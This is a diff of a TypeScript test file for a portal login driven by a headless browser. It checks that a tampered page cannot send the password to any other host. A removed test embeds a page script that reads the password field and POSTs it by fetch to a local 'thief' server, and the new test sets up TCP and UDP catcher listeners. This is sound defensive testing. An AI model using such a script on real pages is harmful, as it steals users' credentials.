@@ -1,18 +1,21 @@
 /** Logging in: by the call, and by the portal's own page in a real headless browser. */
 
 import { spawnSync } from 'node:child_process';
+import { createSocket } from 'node:dgram';
 import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { createServer, type RequestListener, type Server, type ServerResponse } from 'node:http';
-import type { AddressInfo } from 'node:net';
+import { type AddressInfo, createServer as createTcpServer } from 'node:net';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import type { Browser } from 'puppeteer-core';
-import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';
+import { afterAll, afterEach, beforeAll, describe, expect, test, vi } from 'vitest';
 import { Cancelled } from '../../src/errors.ts';
-import { findBrowser, launch, logInByBrowser, logInOn } from '../../src/portal/browser-login.ts';
-import { defaultProfile } from '../../src/portal/profile.ts';
+import { findBrowser, launch, logInByBrowser, logInOn, proxyOptions } from '../../src/portal/browser-login.ts';
+import { type BrowserProxy, startBrowserProxy } from '../../src/portal/browser-proxy.ts';
+import { defaultProfile, type Login } from '../../src/portal/profile.ts';
 import { COMMON, type Job, newJob, runStep } from '../support/action.ts';
 import { startPortal } from '../support/portal.ts';
+import { NOT_ASKED, SERVICE_WORKER, tamperedPage, WAYS, type Way } from '../support/tampered-page.ts';
 
 const ACCOUNT = { username: 'developer@example.com', password: 'p4ss "word" & more' };
 const BROWSER = await findBrowser(process.env).catch(() => undefined);
@@ -96,22 +99,26 @@ describe.skipIf(!BROWSER)('by the page', () => {
     expect(readdirSync(job.temp).filter((name) => name.includes('browser'))).toEqual([]);
   });
 
-  // One browser for all the pages below: each gets a context of its own, as a login does.
+  // One browser for all the pages below: each gets a context and a proxy of its own, as a login does.
   let browser: Browser;
   let folder: string;
+  let unused: BrowserProxy;
   beforeAll(async () => {
     folder = mkdtempSync(join(tmpdir(), 'browser-'));
-    browser = await launch(String(BROWSER), folder, optionsFor('http://127.0.0.1'));
+    const options = optionsFor('http://127.0.0.1');
+    unused = await startBrowserProxy(proxyOptions(options));
+    browser = await launch(String(BROWSER), folder, unused, options);
   }, 60_000);
   afterAll(async () => {
     await browser.close();
+    await unused.close();
     rmSync(folder, { recursive: true, force: true, maxRetries: 5 });
   });
 
-  const optionsFor = (origin: string) => ({
-    profile: defaultProfile,
+  const optionsFor = (origin: string, login: Partial<Login> = {}, hosts: readonly string[] = []) => ({
+    profile: { ...defaultProfile, login: { ...defaultProfile.login, ...login } },
     origin: new URL(origin),
-    hosts: [],
+    hosts,
     account: ACCOUNT,
     environment: process.env,
     tempDir: tmpdir(),
@@ -126,9 +133,19 @@ describe.skipIf(!BROWSER)('by the page', () => {
     servers.push(server);
     return `http://${host}:${(server.address() as AddressInfo).port}`;
   };
-  const logIn = async (page: RequestListener | string) => {
-    const context = await browser.createBrowserContext();
-    return logInOn(await context.newPage(), optionsFor(await serve(page))).catch((error) => error);
+  const logIn = async (page: RequestListener | string, login?: Partial<Login>, hosts?: readonly string[]) => {
+    const options = optionsFor(await serve(page), login, hosts);
+    const proxy = await startBrowserProxy(proxyOptions(options));
+    const context = await browser.createBrowserContext({
+      proxyServer: proxy.url,
+      proxyBypassList: ['<-loopback>'],
+    });
+    try {
+      return await logInOn(await context.newPage(), proxy, options).catch((error) => error);
+    } finally {
+      await context.close();
+      await proxy.close();
+    }
   };
   const FORM = '<input id=username><input id=password type=password>';
   const onEnter = (script: string) =>
@@ -150,26 +167,42 @@ describe.skipIf(!BROWSER)('by the page', () => {
     expect(factor.found).toContain('second factor');
   });
 
-  test.concurrent('only cookies of the portal are taken, and data goes nowhere else', async () => {
-    const stolen: string[] = [];
-    const thief = await serve((req, res) => {
-      stolen.push(`${req.method} ${req.url}`);
-      res.end();
-    }, '0.0.0.0');
-    const page = onEnter(`
-      const theft = { method: 'POST', mode: 'no-cors', body: document.getElementById('password').value };
-      fetch('${thief}', theft).catch(() => {}).then(() => {
-        document.cookie = 'SESSION=from-the-page; path=/'; location.hash = '#/overview';
-      })`);
-    expect(await logIn(page)).toBe('SESSION=from-the-page');
-    expect(stolen).toEqual([]);
-  });
+  test('a tampered page gets the password to no other host, whichever way it tries', async () => {
+    const connections: string[] = [];
+    const thief = createTcpServer((socket) => {
+      connections.push(`TCP ${socket.localAddress}`);
+      socket.destroy();
+    });
+    await new Promise<void>((resolve) => thief.listen(0, '0.0.0.0', resolve));
+    const { port } = thief.address() as AddressInfo;
+    const datagrams = createSocket('udp4', () => connections.push('UDP')).bind(port, '0.0.0.0');
+    cleanups.push(
+      () => thief.close(),
+      () => datagrams.close(),
+    );
+    const hostOf = (way: Way) => `127.0.1.${WAYS.indexOf(way) + 1}:${port}`;
 
-  test.concurrent('a page that leads to a host that may not have the password gets nothing', async () => {
-    const elsewhere = await serve(FORM, '0.0.0.0');
-    const error = await logIn((_, res) => res.writeHead(302, { location: elsewhere }).end());
-    expect(error).toMatchObject({ code: 'portal-unexpected' });
-    expect(error.found).toContain('nothing was typed');
+    const missing = () => WAYS.filter((way) => !NOT_ASKED.includes(way) && !proxy.blocked.has(hostOf(way)));
+    const pages: Record<string, (res: ServerResponse, url: URL) => unknown> = {
+      '/': (res) => res.setHeader('content-type', 'text/html').end(tamperedPage(hostOf)),
+      '/worker.js': (res) => res.setHeader('content-type', 'text/javascript').end(SERVICE_WORKER),
+      '/redirect': (res, url) => res.writeHead(302, { location: url.searchParams.get('to') ?? '' }).end(),
+      '/tried': async (res) => {
+        await vi.waitUntil(() => missing().length === 0, { timeout: 8_000 }).catch(() => {});
+        res.end();
+      },
+    };
+    const origin = await serve((req, res) => {
+      const url = new URL(req.url ?? '', 'http://portal');
+      void (pages[url.pathname] ?? ((response: ServerResponse) => response.writeHead(404).end()))(res, url);
+    });
+    const options = optionsFor(origin);
+    const proxy = await startBrowserProxy(proxyOptions(options));
+    const context = await browser.createBrowserContext({ proxyServer: proxy.url, proxyBypassList: ['<-loopback>'] });
+    cleanups.push(() => context.close(), proxy.close);
+    expect(await logInOn(await context.newPage(), proxy, options)).toContain('SESSION=from-the-page');
+    expect(missing()).toEqual([]);
+    expect(connections).toEqual([]);
   });
 
   test('a cancelled run ends the browser and leaves no folder', async () => {
